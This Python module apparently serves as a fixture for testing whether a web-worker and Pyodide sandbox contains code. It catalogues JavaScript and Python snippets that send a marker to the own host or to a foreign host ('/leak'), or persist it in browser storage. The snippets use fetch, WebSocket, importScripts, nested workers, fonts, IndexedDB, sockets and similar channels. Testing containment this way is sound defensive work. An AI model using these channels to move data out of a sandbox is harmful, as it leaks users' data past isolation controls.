"""The ways: what code in the worker might do to send or keep a mark.

Each has `own` and `other` (addresses that listen: the page's own host and a foreign one) and `mark`, and ends when its
attempt has ended. A way counts only where the control shows that it works.
"""

SOCKET = """
  await new Promise((end, fail) => {
    const socket = new WebSocket(`${HOST}/leak?${mark}`.replace("http", "ws"));
    socket.onopen = end;
    socket.onerror = () => fail(new Error("socket"));
  });
"""

SCRIPT = {
    "fetch, own host": "await fetch(`${own}/leak?${mark}`)",
    "fetch, foreign host": "await fetch(`${other}/leak?${mark}`, { mode: 'no-cors' })",
    "fetch, POST that outlives the page": """
      await fetch(`${own}/leak?${mark}`, { method: "POST", body: mark, keepalive: true });
    """,
    "XMLHttpRequest": """
      await new Promise((end, fail) => {
        const request = new XMLHttpRequest();
        request.onload = end;
        request.onerror = () => fail(new Error("network"));
        request.open("GET", `${own}/leak?${mark}`);
        request.send();
      });
    """,
    "XMLHttpRequest that waits": """
      const request = new XMLHttpRequest();
      request.open("GET", `${other}/leak?${mark}`, false);
      request.send();
    """,
    "WebSocket, own host": SOCKET.replace("HOST", "own"),
    "WebSocket, foreign host": SOCKET.replace("HOST", "other"),
    "EventSource": """
      await new Promise((end, fail) => {
        const source = new EventSource(`${own}/leak?${mark}`);
        source.onopen = end;
        source.onerror = () => { source.close(); fail(new Error("source")); };
      });
    """,
    "importScripts": "importScripts(`${own}/leak?${mark}`)",
    "importScripts, foreign host": "importScripts(`${other}/leak?${mark}`)",
    "import()": "await import(`${own}/leak?${mark}`)",
    "a worker by address": """
      await new Promise((end, fail) => {
        new Worker(`${own}/leak?${mark}`).onerror = () => fail(new Error("worker"));
        setTimeout(end, 700);
      });
    """,
    "a worker within the worker": """
      const text = `fetch("${own}/leak?${mark}").then(() => postMessage(true), () => postMessage(false))`;
      await new Promise((end, fail) => {
        const worker = new Worker(URL.createObjectURL(new Blob([text])));
        worker.onmessage = ({ data }) => data ? end() : fail(new Error("refused within"));
        worker.onerror = () => fail(new Error("worker"));
      });
    """,
    "a font": "await new FontFace('f', `url('${own}/leak?${mark}')`).load()",
    "wasm by address": "await WebAssembly.compileStreaming(fetch(`${own}/leak?${mark}`))",
    "BroadcastChannel": "new BroadcastChannel('leak').postMessage(mark)",
    "IndexedDB": """
      await new Promise((end, fail) => {
        const request = indexedDB.open(mark);
        request.onsuccess = end;
        request.onerror = () => fail(request.error);
      });
    """,
    "Cache Storage": "await (await caches.open('leak')).put(`${own}/${mark}`, new Response('x'))",
    "files of the origin": """
      await (await navigator.storage.getDirectory()).getFileHandle(mark, { create: true });
    """,
    "locks": """
      await new Promise((end, fail) => {
        navigator.locks.request(mark, () => { end(); return new Promise(() => {}); }).catch(fail);
      });
    """,
}

PYTHON = {
    "pyfetch": """
from pyodide.http import pyfetch
await pyfetch(f"{own}/leak?{mark}")
""",
    "open_url": """
from pyodide.http import open_url
open_url(f"{own}/leak?{mark}")
""",
    "js.fetch": """
import js
await js.fetch(f"{other}/leak?{mark}")
""",
    "js.XMLHttpRequest": """
import js
request = js.XMLHttpRequest.new()
request.open("GET", f"{own}/leak?{mark}", False)
request.send()
""",
    "js.WebSocket": """
import asyncio, js
js.WebSocket.new(f"{own}/leak?{mark}".replace("http", "ws"))
await asyncio.sleep(0.7)
""",
    "js.importScripts": """
import js
js.importScripts(f"{own}/leak?{mark}")
""",
    "js.EventSource": """
import asyncio, js
source = js.EventSource.new(f"{own}/leak?{mark}")
await asyncio.sleep(0.7)
source.close()
""",
    "js.BroadcastChannel": """
import js
js.BroadcastChannel.new("leak").postMessage(mark)
""",
    "js.indexedDB": """
import asyncio, js
js.indexedDB.open(mark)
await asyncio.sleep(0.7)
""",
    "run_js": """
from pyodide.code import run_js
await run_js(f"fetch('{own}/leak?{mark}')")
""",
    "js.Function": """
import js
await js.Function.new(f"return fetch('{own}/leak?{mark}')")()
""",
    "loadPackage": """
import pyodide_js
await pyodide_js.loadPackage(f"{own}/{mark}x-1.0-py3-none-any.whl")
""",
    "a socket": """
import asyncio, socket
host, port = other.split("/")[2].split(":")
connection = socket.socket()
connection.setblocking(False)
connection.connect_ex((host, int(port)))
await asyncio.sleep(0.7)
""",
    "urllib": """
import urllib.request
urllib.request.urlopen(f"{own}/leak?{mark}", timeout=1)
""",
}

# What does not work on the control either, so that its refusal proves nothing: Pyodide has no sockets that wait.
UNPROVEN = {"Python: urllib"}
